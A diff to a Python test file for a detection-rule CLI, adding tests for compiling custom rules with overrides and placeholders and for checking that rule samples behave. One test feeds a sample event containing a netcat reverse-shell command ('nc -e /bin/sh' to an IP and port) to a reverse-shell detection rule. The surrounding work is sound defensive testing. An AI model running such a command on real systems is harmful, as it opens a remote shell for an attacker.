@@ -10,6 +10,7 @@ from click.testing import CliRunner
 
 import rules
 from cli.rules import command
+from detection.rules import load_compiled
 
 _RULE = """
 title: T
@@ -51,10 +52,10 @@ def test_check_says_what_cannot_be_used_and_what_never_matches(tmp_path: Path) -
         "network_connection events have no field DestinationIsIpv6",
         "no event source here carries driver_load events: the rule never matches",
     ]
-    (tmp_path / "bad.yml").write_text("title: T\ncorrelation: {}\n")
+    (tmp_path / "bad.yml").write_text("title: T\nstatus: test\ncorrelation: {}\n")
     code, output = _run("check", str(tmp_path))
     assert code == 1
-    assert f"problem: {tmp_path / 'bad.yml'}: T: Sigma correlation rules are not supported" in output
+    assert f"problem: {tmp_path / 'bad.yml'}:3: T: Sigma correlation rule without type" in output
 
 
 def test_check_runs_a_rules_own_samples(tmp_path: Path) -> None:
@@ -70,6 +71,40 @@ def test_compile_writes_what_is_shipped(tmp_path: Path) -> None:
     assert code == 0
     for kind in rules.KINDS:
         assert (tmp_path / f"{kind}.json").read_bytes() == rules.compiled(kind)
+
+
+def test_compile_takes_own_rules_exceptions_overrides_and_placeholders_along(tmp_path: Path) -> None:
+    own = tmp_path / "own"
+    own.mkdir()
+    rule = _RULE.replace("CATEGORY", "process_creation").replace("FIELD: a", 'User|expand: "%admins%"')
+    (own / "rule.yml").write_text(rule)
+    (own / "placeholders.yml").write_text("admins: [root]\n")
+    (own / "lower.yml").write_text("title: Ours\noverride: {rules: [package-manager-in-container], level: low}\n")
+    code, output = _run("compile", str(own), "--output", str(tmp_path / "out"))
+    assert code == 1
+    assert "lower.yml: Ours: override: no rule is called package-manager-in-container" in output
+    shipped = load_compiled(rules.runtime_rules()).rules[0]
+    (own / "lower.yml").write_text(f"title: Ours\noverride: {{rules: [{shipped.id}], level: informational}}\n")
+    code, _ = _run("compile", str(own), "--output", str(tmp_path / "out"))
+    assert code == 0
+    compiled = {r.id: r for r in load_compiled((tmp_path / "out" / "runtime.json").read_bytes()).rules}
+    assert compiled[shipped.id].level.label == "informational"
+    assert len(compiled) == len(rules.sources("runtime")) + 1
+
+
+def test_samples_of_every_shipped_rule_behave_and_explain_says_why(tmp_path: Path) -> None:
+    code, output = _run("test")
+    count = len(rules.sources("runtime")) + len(rules.sources("audit"))
+    assert (code, output) == (0, f"{count} of {count} rules behave on their samples\n")
+    event = tmp_path / "event.json"
+    event.write_text('{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}')
+    code, output = _run("explain", "reverse-shell", str(event))
+    assert code == 0
+    assert output.startswith("reverse-shell (process_creation) holds\n")
+    assert "yes Image endswith any of '/nc'" in output
+    code, output = _run("explain", "nobody", str(event))
+    assert code == 1
+    assert "no rule is called nobody" in output
 
 
 @pytest.mark.parametrize("module", ["agent.detect", "cli.rules"])
